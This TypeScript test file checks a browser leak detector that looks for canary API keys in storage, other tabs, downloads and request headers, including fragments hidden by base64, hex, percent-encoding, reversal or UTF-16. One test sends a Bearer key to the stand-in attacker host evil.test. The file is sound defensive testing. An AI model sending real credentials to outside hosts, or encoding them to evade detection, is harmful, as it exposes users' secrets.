import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { canary, finder } from '../../support/canary-keys.ts';
import { blankPage } from '../support/blank-page.ts';
import { sweep } from '../support/leak-sweep.ts';
import {
  type Console,
  openConsole,
  openSecondTab,
  openTestBed,
  type TestBed,
} from '../support/page.ts';
import { leaks, plantLeak, plantRecord } from '../support/planted-leaks.ts';

const key = canary('groq');
const gemini = canary('gemini');
const secret = key.key.slice(10, 18);
const lax = "connect-src https://evil.test https://api.groq.com https://*.googleapis.com 'self'";
const blank = blankPage(lax);

let bench: TestBed;
let opened: Console;

beforeAll(async () => {
  bench = await openTestBed(blank.folder);
});
afterAll(async () => {
  await bench.close();
  blank.remove();
});

describe('the sweep of one page', () => {
  beforeAll(async () => {
    bench.hosts.reset();
    opened = await openConsole(bench);
  });
  afterAll(() => opened.close());

  it.each(Object.keys(leaks))('finds 8 characters of a key in: %s', async (sink) => {
    const own = canary('groq', sink);
    await plantLeak(opened, sink, own.key.slice(10, 18));
    const hits = await sweep(opened, bench, [own]);
    expect(hits.map((hit) => hit.sink)).toContain(sink.replace(/:.*/, ''));
    expect(hits[0]?.window).toMatch(/^text of …/);
  });
});

describe('the sweep', () => {
  beforeEach(async () => {
    bench.hosts.reset();
    bench.servedPaths.length = 0;
    opened = await openConsole(bench, { stored: { 'app-apikey-provider7': key.key } });
  });
  afterEach(() => opened.close());

  it('finds nothing on an empty page', async () => {
    await opened.page.evaluate((body) => localStorage.setItem('a', body), key.key.slice(-4));
    expect(await sweep(opened, bench, [key])).toEqual([]);
  });

  it('allows a key or the beginning of one in its own place, but no key of another provider', async () => {
    const { page } = opened;
    const store = (name: string, value: string) =>
      page.evaluate(([at, text]) => localStorage.setItem(at, text), [name, value] as const);
    const found = async () => (await sweep(opened, bench, [key, gemini])).map(({ sink }) => sink);
    await store('app-apikey-provider4', gemini.key.slice(0, 20));
    expect(await found()).toEqual([]);
    await store('app-apikey-provider7', gemini.key);
    expect(await found()).toEqual(['localStorage']);
    await store('app-apikey-provider7', key.key);
    for (const [provider, keyProvider, isHome] of [
      ['groq', 'groq', true],
      ['gemini', 'groq', false],
      ['gemini', 'gemini', false],
    ] as const) {
      await plantRecord(opened, 'bots', { provider, keyProvider, k: key.key });
      expect(await found()).toEqual(isHome ? [] : ['IndexedDB']);
    }
  });

  it('finds keys that another tab shows and posts', async () => {
    const other = await openSecondTab(opened, bench.url);
    for (const sink of ['screen', 'message']) {
      await plantLeak(other, sink, secret);
      expect((await sweep(other, bench, [key])).map((hit) => hit.sink)).toContain(sink);
    }
  });

  it('finds a key in an extra text', async () => {
    const hits = await sweep(opened, bench, [key], {
      extra: [{ sink: 'download', text: `a ${secret} b` }],
    });
    expect(hits).toEqual([{ sink: 'download', window: `text of …${key.key.slice(-4)}` }]);
  });

  it('allows a key only in its own place of a request to its own host', async () => {
    const fetches = (url: string, headers: Record<string, string>) =>
      opened.page.evaluate(([to, h]) => fetch(to, { headers: h }).then((r) => r.status), [
        url,
        headers,
      ] as const);
    await opened.page.evaluate(() => performance.setResourceTimingBufferSize(0));
    await fetches('https://api.groq.com/', { authorization: `Bearer ${key.key}` });
    await fetches(`https://${gemini.host}/v1beta/models?key=${gemini.key}`, {});
    await fetches(`https://${gemini.host}/`, { 'x-goog-api-key': gemini.key });
    expect(await sweep(opened, bench, [key, gemini])).toEqual([]);

    await fetches('https://evil.test/', { authorization: `Bearer ${key.key}` });
    await fetches(`https://${gemini.host}/`, { 'x-goog-api-key': key.key });
    const hits = await sweep(opened, bench, [key, gemini]);
    expect(new Set(hits.map((hit) => hit.sink))).toEqual(new Set(['request header']));
  });
});

describe('the finder', () => {
  const find = finder([key]);
  const body = key.key.slice(key.prefix.length);
  const piece = body.slice(5, 17);

  it.each([
    ['in plain text', piece],
    [
      'percent-encoded',
      [...piece].map((c) => `%${c.charCodeAt(0).toString(16).toUpperCase()}`).join(''),
    ],
    ['in base64', btoa(`{"note":"${piece}"}`)],
    ['in base64, offset by one byte', btoa(`{"notes":"${piece}"}`)],
    ['in base64, offset by two bytes', btoa(`{"notes_":"${piece}"}`)],
    ['in hex', Buffer.from(`x${piece}`).toString('hex')],
    ['reversed', [...piece].reverse().join('')],
    ['in UTF-16', Buffer.from(piece, 'utf16le').toString('latin1')],
  ])('finds a part of a key %s', (_, text) => {
    expect(find(`before ${text} after`)).not.toEqual([]);
  });

  it('ignores the prefix and the last four characters', () => {
    expect(find(`${key.prefix}…${key.key.slice(-4)} ${body.slice(0, 7)}`)).toEqual([]);
  });
});
